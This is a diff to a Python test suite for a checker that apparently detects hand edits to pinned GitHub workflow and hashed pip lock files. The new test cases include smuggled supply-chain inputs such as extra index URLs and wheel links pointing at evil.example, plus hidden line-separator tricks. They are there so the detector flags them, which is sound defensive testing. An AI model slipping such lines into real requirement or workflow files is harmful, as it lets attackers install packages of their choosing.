@@ -30,7 +30,7 @@ def test_written_file_is_current() -> None:
     ("old", "new"),
     [
         (f"{OLD} # v4.2.2", f"{NEW} # v7.0.1"),
-        (f"{OLD} # v4.2.2", NEW),
+        (f"@sha256:{HASH}", f"@sha256:{OTHER_HASH}"),
         (f"3.13.1@sha256:{HASH}", f"3.13.4@sha256:{OTHER_HASH}"),
     ],
 )
@@ -45,6 +45,12 @@ def test_raised_pin_of_same_action_or_image_is_current(old: str, new: str) -> No
         ("actions/checkout", "evil/checkout"),
         (f"@{OLD} # v4.2.2", "@main"),
         (f"@{OLD} # v4.2.2", "@v7"),
+        (f"{OLD} # v4.2.2", NEW),
+        (f"{OLD} # v4.2.2", f"{NEW} # v4.2.2"),
+        (f"{OLD} # v4.2.2", f"{NEW} # v4.2.1"),
+        (f"{OLD} # v4.2.2", f"{NEW} # vnext"),
+        ("overwrites it:", "overwrites it:\u2028on: push #"),
+        ("overwrites it:", "overwrites it:\x85on: push #"),
         (f"@sha256:{HASH}", ""),
         ("python:", "evil/python:"),
         ("jobs:", "jobs: # mine"),
@@ -61,7 +67,19 @@ def test_edit_by_hand_is_found(old: str, new: str) -> None:
     ("old", "new", "state"),
     [
         ("1.44.8", "1.45.0", "current"),
-        (f"{HASH} \\\n    --hash=sha256:{OTHER_HASH}", "c" * 64, "current"),
+        (f"1.44.8 \\\n    --hash=sha256:{HASH}", f"1.45.0 \\\n    --hash=sha256:{'c' * 64}", "current"),
+        (f"{HASH} \\\n    --hash=sha256:{OTHER_HASH}", "c" * 64, "edited"),
+        (f"--hash=sha256:{OTHER_HASH}", f"--hash=sha256:{'c' * 64}", "edited"),
+        ("boto3==", "-r other.txt\nboto3==", "edited"),
+        ("boto3==", "--extra-index-url https://evil.example\nboto3==", "edited"),
+        ("boto3==", "--find-links file:///tmp\nboto3==", "edited"),
+        ("boto3==", "-e ./evil\nboto3==", "edited"),
+        ("boto3==", "evil==1.0 \\\n    --hash=sha256:" + "c" * 64 + "\nboto3==", "edited"),
+        # pip ends a line here, an editor does not.
+        ("which overwrites it", "\x0c--extra-index-url https://evil.example\x0cevil", "edited"),
+        ("which overwrites it", "\u2028evil @ https://evil.example/evil.whl #", "edited"),
+        (", settings", ",\x0cevil @ https://evil.example/evil.whl\x0c, settings", "differs"),
+        ("boto3==", "# a comment \\\nboto3==", "edited"),
         ("1.44.8", "1.44.7", "edited"),
         ("boto3", "boto4", "edited"),
         (f" \\\n    --hash=sha256:{HASH} \\\n    --hash=sha256:{OTHER_HASH}", "", "edited"),
@@ -72,7 +90,7 @@ def test_edit_by_hand_is_found(old: str, new: str) -> None:
     ],
 )
 def test_lock_may_raise_hashed_versions_only(old: str, new: str, state: str) -> None:
-    assert old in LOCK
+    assert old in sealed(LOCK)
     assert compare_file(sealed(LOCK).replace(old, new, 1), sealed(LOCK)) == state
 
 
@@ -105,6 +123,13 @@ def test_other_version_for_same_settings_is_only_noted() -> None:
     newer = sealed("jobs: {}\n", version="0.2.0")
     assert compare_file(newer, sealed(WORKFLOW)) == "other version"
     assert compare_file(sealed(WORKFLOW, version="0.2.0"), sealed(WORKFLOW)) == "current"
+
+
+def test_other_version_hides_no_pin_that_is_not_raised() -> None:
+    """The header is text of the file: who edits a pin can write any version there."""
+    for body, old in ((WORKFLOW, OLD), (LOCK, HASH)):
+        found = sealed(body, version="0.0.1").replace(old, "c" * len(old))
+        assert compare_file(found, sealed(body)) == "other version"
 
 
 def test_changed_settings_make_file_outdated_in_any_version() -> None:
